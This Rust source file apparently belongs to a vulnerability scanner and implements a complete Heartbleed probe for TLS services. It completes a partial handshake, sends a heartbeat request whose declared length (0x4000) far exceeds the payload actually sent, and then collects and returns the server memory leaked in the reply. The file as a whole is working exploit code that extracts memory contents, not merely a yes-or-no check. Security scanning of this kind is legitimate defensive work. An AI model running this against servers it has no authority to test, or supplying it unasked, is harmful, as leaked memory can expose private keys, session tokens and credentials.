//! Plaintext heartbeat over-read check.
//!
//! The exchange never finishes the handshake: once the server has sent
//! ServerHelloDone we send an unencrypted heartbeat request whose declared
//! payload length is far larger than what we actually send. A patched server
//! drops it; a vulnerable one answers with our payload followed by whatever
//! memory sat behind it.

use std::net::{IpAddr, Ipv6Addr};
use std::time::Duration;

use async_trait::async_trait;
use rand::RngCore;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::timeout;
use tracing::debug;

use super::tls::{self, HandshakeReader, Record};
use super::{ProbeEngine, ProbeError, ProbeOutcome};
use crate::target::Target;

/// Declared heartbeat payload length, far past anything we send.
const CLAIMED_LENGTH: u16 = 0x4000;

pub const DEFAULT_PAYLOAD: &[u8] = b"heartbleed.mozilla.com";
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(10);

#[derive(Debug, Clone)]
pub struct HeartbleedProbe {
    payload: Vec<u8>,
    timeout: Duration,
}

impl Default for HeartbleedProbe {
    fn default() -> Self {
        Self::new(DEFAULT_PAYLOAD.to_vec(), DEFAULT_TIMEOUT)
    }
}

impl HeartbleedProbe {
    /// `payload` must stay shorter than the claimed length for leaks to show.
    pub fn new(payload: Vec<u8>, timeout: Duration) -> Self {
        let max = usize::from(CLAIMED_LENGTH) - 1;
        let payload = if payload.len() > max { payload[..max].to_vec() } else { payload };
        Self { payload, timeout }
    }

    async fn read(&self, stream: &mut TcpStream) -> Result<Option<Record>, ProbeError> {
        timeout(self.timeout, tls::read_record(stream))
            .await
            .map_err(|_| ProbeError::Timeout(self.timeout))?
    }

    async fn handshake(&self, stream: &mut TcpStream, server_name: Option<&str>) -> Result<(), ProbeError> {
        let mut random = [0u8; 32];
        rand::thread_rng().fill_bytes(&mut random);
        stream.write_all(&tls::client_hello(server_name, random)).await?;

        let mut messages = HandshakeReader::default();
        loop {
            let record = self
                .read(stream)
                .await?
                .ok_or_else(|| ProbeError::Handshake("connection closed before ServerHelloDone".into()))?;

            match record.content_type {
                tls::CONTENT_HANDSHAKE => {
                    messages.push(&record.body);
                    while let Some((kind, _)) = messages.next_message() {
                        if kind == tls::HANDSHAKE_SERVER_HELLO_DONE {
                            return Ok(());
                        }
                    }
                }
                tls::CONTENT_ALERT => {
                    let description = record.body.get(1).copied().unwrap_or_default();
                    return Err(ProbeError::Handshake(format!("server sent alert {description}")));
                }
                other => {
                    return Err(ProbeError::Protocol(format!(
                        "unexpected record type {other} during handshake"
                    )));
                }
            }
        }
    }

    async fn heartbeat(&self, stream: &mut TcpStream) -> Result<ProbeOutcome, ProbeError> {
        stream.write_all(&tls::heartbeat_request(&self.payload, CLAIMED_LENGTH)).await?;

        let mut declared: Option<usize> = None;
        let mut echoed = Vec::new();
        loop {
            let record = match self.read(stream).await {
                Ok(Some(record)) => record,
                // Silence or a hang-up after the request means it was dropped.
                Ok(None) | Err(ProbeError::Timeout(_)) | Err(ProbeError::Io(_)) => break,
                Err(error) => return Err(error),
            };

            match record.content_type {
                tls::CONTENT_HEARTBEAT => {
                    let chunk = match declared {
                        Some(_) => &record.body[..],
                        None => {
                            if record.body.len() < 3 || record.body[0] != tls::HEARTBEAT_RESPONSE {
                                return Err(ProbeError::Protocol("malformed heartbeat response".into()));
                            }
                            declared = Some(usize::from(u16::from_be_bytes([record.body[1], record.body[2]])));
                            &record.body[3..]
                        }
                    };
                    echoed.extend_from_slice(chunk);
                    if echoed.len() >= declared.unwrap_or_default() {
                        break;
                    }
                }
                tls::CONTENT_ALERT => break,
                // Late handshake traffic is harmless, keep waiting.
                tls::CONTENT_HANDSHAKE => continue,
                other => {
                    return Err(ProbeError::Protocol(format!(
                        "unexpected record type {other} after heartbeat"
                    )));
                }
            }
        }

        match declared {
            Some(len) if len > self.payload.len() && !echoed.is_empty() => {
                echoed.truncate(len);
                Ok(ProbeOutcome::Leaked(echoed))
            }
            _ => Ok(ProbeOutcome::NotExploitable),
        }
    }
}

#[async_trait]
impl ProbeEngine for HeartbleedProbe {
    async fn probe(&self, target: &Target) -> Result<ProbeOutcome, ProbeError> {
        let port = service_port(&target.service)
            .ok_or_else(|| ProbeError::UnknownService(target.service.clone()))?;
        let address = dial_address(&target.host, port);

        debug!(%target, %address, "Connecting");
        let mut stream = timeout(self.timeout, TcpStream::connect(address.as_str()))
            .await
            .map_err(|_| ProbeError::Timeout(self.timeout))?
            .map_err(|source| ProbeError::Connect { address: address.clone(), source })?;

        self.handshake(&mut stream, server_name(&target.host)).await?;
        debug!(%target, "Handshake reached ServerHelloDone, sending heartbeat");

        let outcome = self.heartbeat(&mut stream).await;
        let _ = stream.shutdown().await;
        outcome
    }
}

/// Well-known ports of services that speak TLS from the first byte.
pub fn service_port(service: &str) -> Option<u16> {
    match service {
        "https" => Some(443),
        "smtps" => Some(465),
        "ldaps" => Some(636),
        "imaps" => Some(993),
        "pop3s" => Some(995),
        _ => None,
    }
}

/// `host` as a connectable address, keeping an explicit port if present.
pub fn dial_address(host: &str, default_port: u16) -> String {
    if host.parse::<Ipv6Addr>().is_ok() {
        return format!("[{host}]:{default_port}");
    }
    if host.starts_with('[') {
        return if host.ends_with(']') { format!("{host}:{default_port}") } else { host.to_owned() };
    }
    match host.rsplit_once(':') {
        Some((_, port)) if port.parse::<u16>().is_ok() => host.to_owned(),
        _ => format!("{host}:{default_port}"),
    }
}

/// Name to send as SNI: the host without port, unless it is an IP literal or
/// too long to be a DNS name.
fn server_name(host: &str) -> Option<&str> {
    if host.starts_with('[') {
        return None;
    }
    let name = match host.rsplit_once(':') {
        Some((name, port)) if port.parse::<u16>().is_ok() => name,
        _ => host,
    };

    if name.is_empty() || name.len() > tls::MAX_SERVER_NAME_LEN || name.parse::<IpAddr>().is_ok() {
        None
    } else {
        Some(name)
    }
}
